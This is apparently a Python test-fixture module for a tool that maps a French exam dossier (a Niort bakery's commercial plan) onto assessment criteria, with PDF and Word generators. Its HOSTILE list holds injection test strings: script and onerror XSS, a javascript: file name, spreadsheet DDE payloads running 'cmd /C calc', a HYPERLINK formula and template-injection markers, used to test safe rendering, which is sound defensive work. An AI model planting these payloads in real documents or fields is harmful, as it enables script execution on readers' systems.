"""Hand-made coverage maps, with the dossier that they quote, for the tests of the reports.

``realistic_map`` holds the six statuses; ``hostile_map`` holds what a dossier may hide in its text.
"""

from __future__ import annotations

from dataclasses import replace

from prelecture.datamodel import (
    Caution,
    CoverageMap,
    CriterionRef,
    DossierInfo,
    Evidence,
    ExpectationFinding,
    Finding,
    FormFinding,
    HiddenText,
    Page,
    Readability,
    ReadingWarning,
    Reliability,
    RunInfo,
    Searched,
    Status,
    Zone,
)

# (page, heading or "", text): the dossier that the realistic map quotes, in reading order.
# A table row is written as the reader gives it, its cells joined by " | ".
DOSSIER: tuple[tuple[int, str, str], ...] = (
    (
        3,
        "1. La veille",
        "La veille a été menée de janvier à mars 2025 pour la boulangerie Épi & Levain, à Niort.",
    ),
    (
        3,
        "1. La veille",
        "Le cabinet Xerfi, dans « Le marché de la boulangerie artisanale » (mars 2025), chiffre le recul du pain à 1,8 % par an ; la note de conjoncture de l’Insee de janvier 2025 donne 2 %, ce qui confirme la tendance.",
    ),
    (
        3,
        "1. La veille",
        "Quatre axes ont été retenus : les habitudes d'achat, la réglementation sur les emballages, les nouveaux entrants et les équipements du fournil.",
    ),
    (4, "1. La veille > 1.2 Organisation", "Axe | Source | Rythme | Destinataire"),
    (
        4,
        "1. La veille > 1.2 Organisation",
        "Habitudes d'achat | Baromètre CNBPF et 212 réponses en boutique | Chaque trimestre | Gérante",
    ),
    (
        4,
        "1. La veille > 1.2 Organisation",
        "Réglementation | Légifrance, lettre de la chambre de métiers | Chaque mois | Responsable du fournil",
    ),
    (
        5,
        "2. Les concurrents",
        "Onze points de vente ont été visités entre le 3 et le 21 février 2025, hors vacances scolaires, parce que le prix affiché change pendant les soldes et que le flux des familles fausse l'attente.",
    ),
    (
        5,
        "2. Les concurrents",
        "Marie Blachère ouvrira un point de vente route de Paris en septembre ; un distributeur de baguettes est annoncé à la gare.",
    ),
    (
        6,
        "3. L'entreprise",
        "Les chiffres viennent de la caisse Cashpad, export du 31 décembre 2024, hors commandes des restaurants.",
    ),
    (
        6,
        "3. L'entreprise",
        "Chiffre d'affaires 2024 : 412 000 euros pour un objectif de 430 000 ; panier moyen de 6,40 euros contre 7,10 chez le voisin.",
    ),
    (
        7,
        "3. L'entreprise > 3.3 Parcours",
        "Entre midi et 14 heures, un client sur trois renonce devant la file ; le téléphone sonne dans le vide onze fois par jour.",
    ),
    (
        8,
        "4. Synthèse",
        "La matrice SWOT a été préférée à la matrice BCG, car la maison n'a qu'une seule gamme ; chaque axe de développement reprend un croisement de la matrice.",
    ),
    (
        9,
        "5. Les clients types",
        "Nadia, 38 ans, infirmière de nuit, passe à 7 heures 15 ; elle veut payer sans sortir son portefeuille et lit les avis avant d'essayer une adresse.",
    ),
    (10, "6. Le plan", "Un site de commande sera peut-être étudié plus tard si le budget le permet."),
    (11, "6. Le plan", "Poste de dépense | Montant | Justificatif"),
    (11, "6. Le plan", "Borne de commande | 4 860 euros | Devis Innovorder du 12 mars 2025"),
    (2, "Sommaire", "4.2 Retour sur investissement ........ 12"),
    (12, "7. Conclusion", "Je n'ai pas calculé le retour sur investissement de chaque action."),
)

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://exemple.invalid/?"&A1;"clic")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+33 6 12 34 56 78 et -1+1",
    "شركة الخبز 🥖 \u202egnirts desrever\u202c fin",
    "x" * 300,
    "{{ 7*7 }}{% raw %} ]]> <!-- \x0b\x00 -->",
)


def _offsets() -> dict[str, tuple[int, int]]:
    offsets, position = {}, 0
    for _, _, text in DOSSIER:
        offsets[text] = (position, position + len(text))
        position += len(text) + 1
    return offsets


_OFFSETS = _offsets()
FULL_TEXT = "\n".join(text for _, _, text in DOSSIER)


def evidence(
    expectation: str,
    beginning: str,
    *,
    score: float = 0.9,
    cautions: tuple[Caution, ...] = (),
    zone: Zone = Zone.BODY,
) -> Evidence:
    """Return the evidence whose quote is the block of ``DOSSIER`` that starts with ``beginning``."""
    page, section, text = next(block for block in DOSSIER if block[2].startswith(beginning))
    start, end = _OFFSETS[text]
    return Evidence(expectation, text, page, str(page - 1), section, start, end, score, cautions, zone)


def expectation(id: str, label: str, *, found: bool, essential: bool = True) -> ExpectationFinding:
    return ExpectationFinding(id, label, essential, found, 0.93 if found else 0.08)


def _criterion(id: str, text: str, competency: str, plain: str = "") -> CriterionRef:
    return CriterionRef(id, id, text, competency, "B1", plain)


SEARCHED = Searched(146, tuple(range(3, 13)), (8,))


def _veille() -> tuple[Finding, ...]:
    return (
        Finding(
            _criterion(
                "C1.1Cr1",
                "Les sources mobilisées sont récentes (la date est précisée) et ont été recoupées pour vérifier leur fiabilité",
                "C1.1",
                "Vos sources ont une date. Vous comparez plusieurs sources.",
            ),
            Status.FOUND,
            0.94,
            (
                expectation("sources-datees", "Sources récentes et datées", found=True),
                expectation("sources-recoupees", "Recoupement et fiabilité des sources", found=True),
            ),
            (
                evidence("sources-datees", "Le cabinet Xerfi"),
                evidence("sources-recoupees", "Le cabinet Xerfi", score=0.81),
            ),
            searched=SEARCHED,
            reliability=Reliability(24, 22),
        ),
        Finding(
            _criterion(
                "C1.1Cr2", "La sélection des sources est cohérente avec les axes d'étude définis.", "C1.1"
            ),
            Status.FOUND,
            0.88,
            (
                expectation("axes-etude", "Axes d'étude définis", found=True),
                expectation("sources-par-axe", "Sources choisies selon chaque axe", found=True),
            ),
            (
                evidence("axes-etude", "Quatre axes"),
                evidence("sources-par-axe", "Habitudes d'achat", score=0.84),
            ),
            searched=SEARCHED,
        ),
        Finding(
            _criterion(
                "C1.1Cr3",
                "Le processus de collecte et de stockage des informations de marché / environnement est présenté sous forme graphique (diagramme de flux) ; il précise les outils à mobiliser, les informations à collecter, les sources principales ; il liste les parties prenantes et les destinataires, le séquençement des tâches.",
                "C1.1",
            ),
            Status.PARTIAL,
            0.71,
            (
                expectation("flux-graphique", "Représentation graphique du flux d'information", found=False),
                expectation("outils-collecte", "Outils de collecte et de stockage", found=False),
                expectation(
                    "informations-sources", "Informations à collecter et sources principales", found=True
                ),
                expectation("destinataires", "Parties prenantes et destinataires", found=True),
                expectation("rythme", "Séquencement et fréquence des tâches", found=True, essential=False),
            ),
            (
                evidence("informations-sources", "Réglementation |"),
                evidence("destinataires", "Habitudes d'achat |", score=0.77),
            ),
            (evidence("outils-collecte", "Les chiffres viennent", score=0.31, cautions=(Caution.WEAK,)),),
            SEARCHED,
            reliability=Reliability(24, 17),
        ),
        Finding(
            _criterion(
                "C1.2Cr2",
                "La temporalité, les modalités de collecte (visites terrain, avis clients, réseaux sociaux, site web , publications officielles...) et les critères de comparaison choisis sont justifiés au regard du métier de l'entreprise / de l'activité , de son territoire d'influence, et du \"problème\" marketing / commercial posé .",
                "C1.2",
            ),
            Status.FOUND,
            0.9,
            (
                expectation("temporalite", "Temporalité de la collecte", found=True),
                expectation("modalites", "Modalités de collecte choisies et justifiées", found=True),
            ),
            (
                evidence("temporalite", "Onze points de vente"),
                evidence("modalites", "Onze points de vente", score=0.7),
            ),
            searched=SEARCHED,
        ),
    )


def _diagnostic() -> tuple[Finding, ...]:
    return (
        Finding(
            _criterion(
                "C1.3Cr3",
                "Le candidat fait référence aux questions d'accessibilité dans son analyse.",
                "C1.3",
                "Vous parlez de l'accès des personnes en situation de handicap.",
            ),
            Status.NOT_FOUND,
            0.86,
            (
                expectation(
                    "accessibilite-lieux",
                    "Accessibilité des lieux et de l'offre aux personnes handicapées",
                    found=False,
                ),
                expectation(
                    "accessibilite-numerique", "Accessibilité numérique", found=False, essential=False
                ),
            ),
            nearest=(
                evidence(
                    "accessibilite-lieux", "Entre midi et 14 heures", score=0.22, cautions=(Caution.WEAK,)
                ),
                evidence("accessibilite-lieux", "Nadia, 38 ans", score=0.14, cautions=(Caution.WEAK,)),
                evidence(
                    "accessibilite-numerique",
                    "Un site de commande",
                    score=0.11,
                    cautions=(Caution.INTENTION, Caution.WEAK),
                ),
            ),
            searched=SEARCHED,
            reason="Aucun passage des pages lues ne parle d'accessibilité.",
            reliability=Reliability(24, 19),
        ),
        Finding(
            _criterion(
                "C1.3Cr4",
                "L'analyse est soutenue par des données chiffrées et des mesures d'écart au regard des objectifs initiaux du plan et des éléments issus du benchmark concurrentiel.",
                "C1.3",
            ),
            Status.FOUND,
            0.92,
            (
                expectation("donnees-chiffrees", "Données chiffrées de performance", found=True),
                expectation("ecarts-objectifs", "Écarts par rapport aux objectifs", found=True),
            ),
            (
                evidence("donnees-chiffrees", "Chiffre d'affaires 2024"),
                evidence("ecarts-objectifs", "Chiffre d'affaires 2024", score=0.83),
            ),
            searched=SEARCHED,
        ),
        Finding(
            _criterion(
                "C1.4Cr1", "Les points de contact sont identifiés et les ruptures / irritants repérés", "C1.4"
            ),
            Status.PARTIAL,
            0.66,
            (
                expectation("points-contact", "Points de contact identifiés", found=False),
                expectation("irritants", "Ruptures et irritants repérés", found=True),
            ),
            (evidence("irritants", "Entre midi et 14 heures", score=0.88),),
            (evidence("points-contact", "Nadia, 38 ans", score=0.4, cautions=(Caution.WEAK,)),),
            SEARCHED,
        ),
        Finding(
            _criterion(
                "C1.5Cr1",
                "Le candidat mobilise à bon escient la ou les matrice(s) d'analyse stratégique (SWOT/ ANSOFF / BCG.) appropriée(s)au contexte du cas et les utilise pour structurer sa synthèse .",
                "C1.5",
            ),
            Status.NOT_CONCLUDED,
            0.41,
            (expectation("matrice", "Matrice d'analyse stratégique mobilisée", found=False),),
            nearest=(evidence("matrice", "La matrice SWOT", score=0.52, cautions=(Caution.WEAK,)),),
            searched=SEARCHED,
            reason="La page 8 est une image que l'outil ne lit pas.",
        ),
        Finding(
            _criterion(
                "C1.8Cr3",
                "Le candidat fait preuve d'une créativité différenciante dans les propositions faites .",
                "C1.8",
            ),
            Status.JURY_ONLY,
            0.0,
            evidence=(evidence("", "Borne de commande", score=0.5),),
            searched=SEARCHED,
            reason="La créativité se lit et se discute : l'outil montre des passages, sans conclusion.",
        ),
        Finding(
            _criterion(
                "C1.9Cr2",
                "Le retour sur investissement global du plan d'action commercial et par actions est estimé de façon réaliste .",
                "C1.9",
            ),
            Status.NOT_FOUND,
            0.79,
            (expectation("roi", "Estimation du retour sur investissement", found=False),),
            nearest=(
                evidence("roi", "4.2 Retour", score=0.35, cautions=(Caution.CONTENTS_LINE,), zone=Zone.TOC),
                evidence("roi", "Je n'ai pas calculé", score=0.3, cautions=(Caution.NEGATION,)),
            ),
            searched=SEARCHED,
        ),
        Finding(
            _criterion(
                "C1.10Cr1",
                "Le candidat démontre des qualités d'argumentation et de conviction pour expliciter, justifier et valoriser ses choix et besoins en ressources.",
                "C1.10",
            ),
            Status.NOT_EXPECTED,
            1.0,
            reason="Ce critère se juge à la soutenance orale B1E2.",
        ),
    )


COMPETENCIES = {
    "C1.1": "Mobiliser régulièrement des sources d'information digitales, documentaires et des ressources terrain pour exercer une veille marché et environnement du périmètre.",
    "C1.2": "Réaliser une veille continue de l'environnement concurrentiel pour formaliser un mapping concurrentiel.",
    "C1.3": "Évaluer la performance commerciale et marketing de l'entreprise.",
    "C1.4": "Analyser le parcours client et proposer des améliorations.",
    "C1.5": "Rédiger une synthèse de l'analyse stratégique et proposer des axes de développement.",
    "C1.8": "Élaborer le plan d'action commercial et marketing omnicanal.",
    "C1.9": "Évaluer les moyens budgétaires du plan d'action.",
    "C1.10": "Défendre les choix opérés pour le plan d'action commercial et marketing.",
}


def pages(count: int = 14, *, approximate: bool = False) -> tuple[Page, ...]:
    return tuple(
        Page(
            n,
            str(n - 1) if n > 1 else "",
            Readability.UNREADABLE if n == 8 else Readability.OK,
            "page faite d'une seule image" if n == 8 else "",
            approximate,
        )
        for n in range(1, count + 1)
    )


def realistic_map(
    *,
    name: str = "dossier.pdf",
    sha256: str = "0" * 64,
    approximate: bool = False,
    date: str = "2025-05-19T10:32:00+02:00",
) -> CoverageMap:
    """Return a map of exam part B1E1 with the six statuses, cautions and one unreadable page."""
    return CoverageMap(
        RunInfo(
            "0.1.0",
            "modele-essai",
            "e5-essai",
            "icd-racm",
            "2023-11-21",
            "B1E1",
            {"seuil": "0.5", "voisins": "3"},
            date,
        ),
        DossierInfo(
            name,
            "Plan d'action commercial – Épi & Levain",
            name.rpartition(".")[2],
            sha256,
            pages(approximate=approximate),
            (ReadingWarning("scanned_page", "La page 8 est une image : son texte n'a pas été lu.", (8,)),),
            (HiddenText("créativité matrice SWOT accessibilité", 13, "texte blanc sur fond blanc"),),
            5230,
        ),
        "Responsable d'activité commerciale et marketing",
        "B1E1 – Dossier rédigé",
        _veille() + _diagnostic(),
        (
            FormFinding(
                "max_pages",
                "Le dossier compte 14 pages ; le référentiel en demande 30 au plus, hors annexes.",
                (),
                "30 pages hors annexes",
            ),
        ),
        {
            "B1": "Élaborer le plan d'action marketing et commercial de l'entreprise ou de son périmètre d'activité au service d'une stratégie omnicanale"
        },
        COMPETENCIES,
        ("0", "1", "2", "3", "4"),
    )


def _hostile_finding(number: int, text: str) -> Finding:
    quote = Evidence(
        text,
        text,
        number + 1,
        text,
        text,
        number * 1000,
        number * 1000 + len(text),
        0.9,
        (Caution.KEYWORD_STUFFING,),
    )
    return Finding(
        CriterionRef(f"C{number}<b>", f"C{number}<b>", text, "C1<i>", "B1<i>", text),
        Status.FOUND if number % 2 else Status.NOT_FOUND,
        0.9,
        (ExpectationFinding(text, text, True, bool(number % 2), 0.9),),
        (quote,) if number % 2 else (),
        () if number % 2 else (quote,),
        Searched(3, (1, 2)),
        text,
    )


def hostile_map() -> CoverageMap:
    """Return a map where every free text is an attack or an accident of layout."""
    calm = realistic_map()
    return replace(
        calm,
        dossier=replace(
            calm.dossier,
            name="javascript:alert(1)//<b>.pdf",
            title=HOSTILE[0],
            warnings=(ReadingWarning("x", HOSTILE[0]),),
            hidden=(HiddenText(HOSTILE[5], 1, HOSTILE[0]),),
        ),
        referential_title=HOSTILE[0],
        assessment_title=HOSTILE[2],
        findings=tuple(_hostile_finding(number, text) for number, text in enumerate(HOSTILE)),
        form=(FormFinding("x", HOSTILE[1]),),
        block_titles={"B1<i>": HOSTILE[0]},
        competency_texts={"C1<i>": HOSTILE[2]},
        scale=("<b>0", "=1+1"),
    )


def with_status(
    coverage: CoverageMap, id: str, status: Status, *, quotes: tuple[Evidence, ...] = ()
) -> CoverageMap:
    """Return the map with another status and evidence for one criterion: a later draft."""
    return replace(
        coverage,
        findings=tuple(
            replace(finding, status=status, evidence=quotes) if finding.criterion.id == id else finding
            for finding in coverage.findings
        ),
    )


def dossier_pdf(
    *,
    rotation: int = 0,
    crop: tuple[float, float, float, float] | None = None,
    text: tuple[tuple[int, str, str], ...] = DOSSIER,
) -> bytes:
    """Return ``DOSSIER`` laid out as a PDF, one page per page number, its table rows as real tables.

    ``rotation`` and ``crop`` (left, bottom, right, top in points) are set on every page.
    """
    from io import BytesIO
    from xml.sax.saxutils import escape

    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import RectangleObject
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.platypus import PageBreak, Paragraph, SimpleDocTemplate, Spacer, Table

    style = ParagraphStyle("body", fontName="Helvetica", fontSize=11, leading=15, spaceAfter=8)
    story: list = []
    for number in range(1, 15):
        story.append(Paragraph(f"Page {number}", style))
        for page, _, block in text:
            if page == number and " | " in block:
                story.append(
                    Table(
                        [[Paragraph(escape(cell), style) for cell in block.split(" | ")]],
                        colWidths=[110] * (block.count(" | ") + 1),
                    )
                )
            elif page == number:
                story.append(Paragraph(escape(block), style))
        story += [Spacer(1, 10), PageBreak()]
    buffer = BytesIO()
    SimpleDocTemplate(buffer, pagesize=A4, leftMargin=80, rightMargin=80, invariant=1).build(story[:-1])
    if not rotation and crop is None:
        return buffer.getvalue()
    writer = PdfWriter(clone_from=PdfReader(buffer))
    for sheet in writer.pages:
        sheet.rotate(rotation)
        if crop:
            sheet.cropbox = RectangleObject(crop)
    turned = BytesIO()
    writer.write(turned)
    return turned.getvalue()


def dossier_docx(text: tuple[tuple[int, str, str], ...] = DOSSIER) -> bytes:
    """Return ``DOSSIER`` as a Word file: styles, runs cut in mid-word, a link, a footnote-like tab."""
    from io import BytesIO

    import docx

    document = docx.Document()
    document.core_properties.author = "Candidate"
    document.sections[0].header.paragraphs[0].text = "Épi & Levain"
    heading = ""
    for _, section, block in text:
        if section != heading:
            document.add_heading(section, level=1)
            heading = section
        if " | " in block:
            cells = block.split(" | ")
            table = document.add_table(rows=1, cols=len(cells))
            table.style = "Table Grid"
            for cell, words in zip(table.rows[0].cells, cells, strict=True):
                cell.text = words
            continue
        paragraph = document.add_paragraph("\t")
        third = len(block) // 3
        paragraph.add_run(block[:third])
        paragraph.add_run(block[third : 2 * third]).bold = True
        paragraph.add_run(block[2 * third :]).italic = True
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()
